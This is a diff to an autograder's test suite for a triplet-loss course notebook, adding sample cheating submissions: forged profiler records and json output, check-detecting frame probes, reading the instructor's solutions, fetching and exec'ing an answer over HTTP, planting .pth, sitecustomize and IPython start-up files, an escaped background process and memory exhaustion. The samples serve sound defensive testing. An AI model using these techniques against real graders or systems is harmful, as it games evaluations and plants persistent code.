@@ -136,7 +136,50 @@ ATTACKS = {
                                 "ip.showtraceback = lambda *a, **k: None"),
     # flooding the output
     "flood": dict(before_checks="for _ in range(3000):\n    print('x' * 1000)"),
+    # wave 3: the evidence is not in the kernel any more, so forging it gains nothing
+    "record_cleared": dict(replace={
+        "ex_triplet_loss": "import sys\ndef triplet_loss(a, p, n, alpha=0.2):\n"
+                           "    out = losses.triplet_loss(a, p, n, alpha)\n"
+                           "    record = sys.getprofile()\n"
+                           "    getattr(record, 'calls', []).clear() if record else None\n    return out",
+        "ex_pairwise_distances": "import sys\ndef pairwise_squared_distances(e):\n"
+                                 "    out = losses.pairwise_squared_distances(e)\n"
+                                 "    record = sys.getprofile()\n"
+                                 "    getattr(record, 'calls', []).clear() if record else None\n    return out"}),
+    "sys_dict": dict(before_checks="import sys\nsys.__dict__.update(setprofile=lambda *a: None, getprofile=lambda: None)",
+                     replace={"ex_triplet_loss": "from course_utils.losses import triplet_loss",
+                              "ex_pairwise_distances": "from course_utils.losses import pairwise_squared_distances"}),
+    "frame_probe": dict(replace={"ex_triplet_loss": (
+        "import sys\ndef triplet_loss(a, p, n, alpha=0.2):\n"
+        "    names, f = set(), sys._getframe(1)\n"
+        "    while f is not None:\n        names.add(f.f_code.co_filename); f = f.f_back\n"
+        "    if any('probe' in x or 'ipython-input' in x or x.startswith('<') for x in names):\n"
+        "        return losses.triplet_loss(a, p, n, alpha)\n"
+        "    raise NotImplementedError()")}),
+    "json_patch": dict(before_checks="import json\n_dumps = json.dumps\n"
+                                     "def forged(o, *a, **k):\n"
+                                     "    if isinstance(o, dict):\n        o = {**o, 'calls': None}\n"
+                                     "    return _dumps(o, *a, **k)\n"
+                                     "json.__dict__['dumps'] = forged",
+                       replace={"ex_triplet_loss": "from course_utils.losses import triplet_loss",
+                                "ex_pairwise_distances": "from course_utils.losses import pairwise_squared_distances"}),
+    "thread": dict(replace={"ex_triplet_loss": (
+        "import threading\ndef triplet_loss(a, p, n, alpha=0.2):\n    box = {}\n"
+        "    t = threading.Thread(target=lambda: box.update(v=losses.triplet_loss(a, p, n, alpha)))\n"
+        "    t.start(); t.join()\n    return box['v']")}),
+    "loop_reference": dict(replace={"ex_triplet_loss": (
+        "import numpy as np\ndef triplet_loss(a, p, n, alpha=0.2):\n"
+        "    return ops.convert_to_tensor(loop_references.triplet_loss_loop(np.asarray(a), np.asarray(p), np.asarray(n), alpha))")}),
 }
+
+# Attacks that need the OS sandbox to fail: the instructor's files are simply not there, and there
+# is no network. {solutions} and {port} are filled in by the test.
+STEAL = ("import json\nnb = json.load(open({solutions!r}))\n"
+         "for cell in nb['cells']:\n"
+         "    if cell.get('metadata', {{}}).get('nbgrader', {{}}).get('grade_id') in ('ex_triplet_loss', 'ex_pairwise_distances'):\n"
+         "        exec(''.join(cell['source']))")
+FETCH = ("import urllib.request\n"
+         "exec(urllib.request.urlopen('http://127.0.0.1:{port}/answer.py', timeout=5).read().decode())")
 
 
 def test_honest_work_and_attacks(course, tmp_path):
@@ -177,33 +220,104 @@ def test_honest_work_and_attacks(course, tmp_path):
     assert "not implemented" in (tmp_path / "feedback" / "unsolved" / f"{LESSON}.md").read_text()
 
 
-TAMPER = '''import os, subprocess, sys
+PERSIST = '''import os, site, subprocess, sys
+tried = []
+def attempt(what, fn):
+    try:
+        fn(); tried.append(what + ": done")
+    except Exception as err:
+        tried.append(f"{{what}}: {{type(err).__name__}}")
 root = {root!r}
-nb = os.path.join(root, "solutions", "04_triplet_loss.ipynb")
-open(nb, "w").write("{{}}")
-kit = os.path.join(root, "course_utils", "exercises", "lesson04_triplet_loss.py")
-open(kit, "a").write("\\nraise SystemExit('tampered')\\n")
-open(os.path.join(root, "course_utils", "planted.py"), "w").write("x = 1\\n")
+attempt("solutions", lambda: open(os.path.join(root, "solutions", "04_triplet_loss.ipynb"), "w").write("{{}}"))
+attempt("kit", lambda: open(os.path.join(root, "course_utils", "exercises", "lesson04_triplet_loss.py"), "a")
+        .write("\\nraise SystemExit('tampered')\\n"))
+attempt("package", lambda: open(os.path.join(os.path.dirname(losses.__file__), "planted.py"), "w").write("x = 1\\n"))
+forge = "import builtins; builtins.FORGED = True\\n"
+for folder in site.getsitepackages():
+    attempt(".pth", lambda: open(os.path.join(folder, "zz_forge.pth"), "w").write("import builtins; builtins.FORGED = True\\n"))
+    attempt("sitecustomize", lambda: open(os.path.join(folder, "sitecustomize.py"), "w").write(forge))
+startup = os.path.expanduser("~/.ipython/profile_default/startup")
+attempt("ipython", lambda: (os.makedirs(startup, exist_ok=True), open(os.path.join(startup, "00-forge.py"), "w").write(forge)))
+attempt("cache", lambda: open(os.path.join(os.environ.get("COURSE_DATA_DIR", "."), "forged.npz"), "w").write("x"))
+attempt("tmp", lambda: open("/tmp/forged-{marker}", "w").write("x"))
 # a process that outlives grading: own session, empty environment, another working directory,
-# double-forked so that it is nobody's child
-code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\nopen({pidfile!r}, 'w').write(str(os.getpid()))\\ntime.sleep(600)"
+# double-forked so that it is nobody's child; {marker} is in its command line
+code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\ntime.sleep(600)  # {marker}"
 subprocess.Popen([sys.executable, "-c", code], env={{}}, cwd="/", start_new_session=True)
 import time; time.sleep(2)
+print(tried)
 '''
 
 
+def _site_packages() -> dict:
+    import site
+    return {str(p) for folder in site.getsitepackages() for p in Path(folder).iterdir()}
+
+
+def _marked(marker: str) -> list:
+    found = []
+    for proc in psutil.process_iter(["cmdline", "status"]):
+        try:
+            if any(marker in part for part in proc.info["cmdline"] or []) and proc.info["status"] != "zombie":
+                found.append(proc.pid)
+        except psutil.Error:
+            continue
+    return found
+
+
+needs_sandbox = pytest.mark.skipif(not grading.bwrap.available(),
+                                   reason=f"no OS sandbox here: {grading.bwrap.problem()}")
+
+
+@needs_sandbox
 def test_a_submission_cannot_change_later_grades(course, tmp_path):
-    pidfile = tmp_path / "escaped.pid"
-    before = digest(course)
-    subs = {"a_tamper": build(before_checks=TAMPER.format(root=str(course), pidfile=str(pidfile))),
+    """A plants files everywhere a later kernel (or the grader) would read them, and leaves a
+    process behind; the honest B and C graded after it, one at a time, score on their merits."""
+    import secrets
+    marker = "forged-" + secrets.token_hex(6)
+    before, site_before = digest(course), _site_packages()
+    subs = {"a_plant": build(before_checks=PERSIST.format(root=str(course), marker=marker)),
             "b_later_unsolved": build(), "c_later_half": build(solve=("ex_triplet_loss",))}
     by = grade(course, tmp_path, subs, jobs=1, seed_data=False)
-    assert by["a_tamper"]["total"] == 0 and "changed course files" in by["a_tamper"]["review"]
-    assert by["b_later_unsolved"]["total"] == 0
+    assert by["a_plant"]["total"] == 0 and "interpreter start-up files" in by["a_plant"]["review"]
+    assert by["b_later_unsolved"]["total"] == 0 and by["b_later_unsolved"]["review"] == ""
     assert by["c_later_half"]["total"] == 2
-    assert digest(course) == before                       # restored, planted file removed
-    pid = int(pidfile.read_text())
+    assert digest(course) == before and _site_packages() == site_before
+    assert not Path(f"/tmp/forged-{marker}").exists()
+    import builtins
+    assert not hasattr(builtins, "FORGED")
     deadline = time.time() + 5
-    while time.time() < deadline and psutil.pid_exists(pid) and psutil.Process(pid).status() != "zombie":
+    while time.time() < deadline and _marked(marker):
         time.sleep(0.2)
-    assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
+    assert _marked(marker) == []
+
+
+@needs_sandbox
+def test_what_only_the_sandbox_stops(course, tmp_path):
+    """Reading the instructor's notebook, fetching the answer from the network, and exhausting the
+    memory: 0 points each, and the honest submission graded beside them still gets its marks."""
+    import http.server
+    import threading
+    served = tmp_path / "served"
+    served.mkdir()
+    sol = nbformat.read(course / "solutions" / f"{LESSON}.ipynb", as_version=4)
+    (served / "answer.py").write_text("\n".join(c.source for c in sol.cells if _gid(c) in BOTH))
+    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(*a, directory=str(served), **k)  # noqa: E731
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        subs = {"steal": build(replace={"ex_triplet_loss": STEAL.format(solutions=str(course / "solutions" / f"{LESSON}.ipynb")),
+                                        "ex_pairwise_distances": "pass"}),
+                "steal_repo": build(replace={"ex_triplet_loss": STEAL.format(solutions=str(ROOT / "solutions" / f"{LESSON}.ipynb")),
+                                             "ex_pairwise_distances": "pass"}),
+                "fetch": build(replace={"ex_triplet_loss": FETCH.format(port=server.server_address[1]),
+                                        "ex_pairwise_distances": "pass"}),
+                "memory": build(before_checks="import numpy as np\nhog = [np.ones(2**27) for _ in range(10**4)]"),
+                "solved": build(solve=BOTH)}
+        by = grade(course, tmp_path, subs, jobs=2)
+    finally:
+        server.shutdown()
+    for name in ("steal", "steal_repo", "fetch", "memory"):
+        assert by[name]["total"] == 0, (name, by[name])
+    assert by["solved"]["total"] == 4
+    assert "graded WITHOUT" not in by["solved"]["review"]
